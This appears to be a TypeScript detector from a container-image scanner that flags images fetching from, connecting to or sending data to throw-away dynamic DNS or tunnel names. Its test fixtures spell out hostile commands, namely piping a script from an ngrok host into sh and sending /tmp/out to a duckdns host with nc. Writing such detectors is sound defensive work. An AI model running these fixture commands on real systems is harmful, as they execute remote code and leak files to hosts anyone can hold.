import type { Effect } from '../trace/effect.ts';
import type { Value } from '../trace/value.ts';
import { destinationOf } from './destinations.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { downloadRuns } from './downloads.ts';
import { severityOf } from './severity.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { clip, valueWords } from './wording.ts';

/** A server behind a name that costs nothing and is gone tomorrow. */
export const throwawayAddress: Detector = {
  id: 'throwaway-address',
  version: 1,
  title: 'Depends on a server behind a throw-away name.',
  attack: ['T1568', 'T1583.001', 'T1090'],
  description: `
Dynamic DNS names and the names of public tunnels (ngrok, trycloudflare …) are anybody's for nothing. People use them to reach
their own home; a published image that fetches from, or connects to, *a fixed one* obeys whoever holds it. *Malicious* when it runs
what it fetches there; *suspicious* when it fetches, connects or sends; also when the name stands in a variable of the image. A
client that only keeps such a name up to date, and a name that the user sets, are nothing.
`,
  fires: [
    { name: 'code from a tunnel', image: { cmd: ['sh', '-c', 'curl -s https://aaaa-1.ngrok.io/x.sh | sh'] } },
    {
      name: 'data to a dynamic name',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          'nc -w3 someones.duckdns.org 4444 < /tmp/out; curl -s http://someones.ddns.net/c > /run/c; exec app',
        ],
      },
    },
    {
      name: 'in a variable',
      severity: 'suspicious',
      image: { cmd: ['app'], env: ['HTTP_SOURCE=https://aaaa-2.ngrok.io'] },
    },
  ],
  silent: [
    {
      name: 'keeping a name up to date',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -s "https://www.duckdns.org/update?domains=$D&token=$T"; curl "https://dynupdate.no-ip.com/nic/update?hostname=$H"; sleep 300',
        ],
      },
    },
    { name: 'a name that the user sets', image: { cmd: ['sh', '-c', 'exec app --url https://$NAME.duckdns.org/'] } },
  ],
  detect(scene) {
    return [...used(scene), ...environment(scene)];
  },
};

function used(scene: Scene): readonly FindingDraft[] {
  const ran = new Set(downloadRuns(scene).flatMap(({ fetch }) => (fetch ? [fetch.id] : [])));
  return scene.story.effects.flatMap((effect) => {
    const to = addressOf(effect);
    if (!to || typeof to[0] !== 'string') return [];
    const destination = destinationOf(to);
    if (destination.kind !== 'throwaway' || destination.traits.host.includes('‹')) return [];
    const runs = ran.has(effect.id);
    return findingOf(scene, sightingOf(scene, effect), {
      threat: runs ? 'hostile' : 'dual-use',
      title: `${runs ? 'Runs code from' : verbs[effect.kind as keyof typeof verbs]} a throw-away name (${valueWords(to, 90)})`,
      because: `Anybody can have a name under ${destination.service} for nothing.`,
      effects: [effect.id],
    });
  });
}

const verbs = { fetch: 'Downloads from', connect: 'Connects to', exfiltrate: 'Sends data to' } as const;

function addressOf(effect: Effect): Value | undefined {
  if (effect.kind === 'fetch') return effect.url;
  if (effect.kind === 'connect') return effect.shell ? undefined : effect.to.host;
  return effect.kind === 'exfiltrate' && effect.via !== 'dns' && effect.via !== 'mail' ? effect.to : undefined;
}

/** An address handed to a program through the image's own variables. */
function environment(scene: Scene): readonly FindingDraft[] {
  return (scene.facts.image.config.config?.Env ?? []).slice(0, 1000).flatMap((entry): FindingDraft[] => {
    const value = entry.slice(entry.indexOf('=') + 1, 1000);
    if (!value.includes('.')) return [];
    const destination = destinationOf([value]);
    if (destination.kind !== 'throwaway') return [];
    const judged = severityOf({
      threat: 'dual-use',
      reach: 'runs',
      because: `Anybody can have a name under ${destination.service} for nothing.`,
    });
    const where = { config: 'Env' };
    return judged
      ? [
          {
            title: `Is set up to talk to a throw-away name (${clip(value, 90)})`,
            ...judged,
            confidence: 'medium',
            reach: 'runs',
            where,
            evidence: [{ text: entry.slice(0, 500), where }],
          },
        ]
      : [];
  });
}
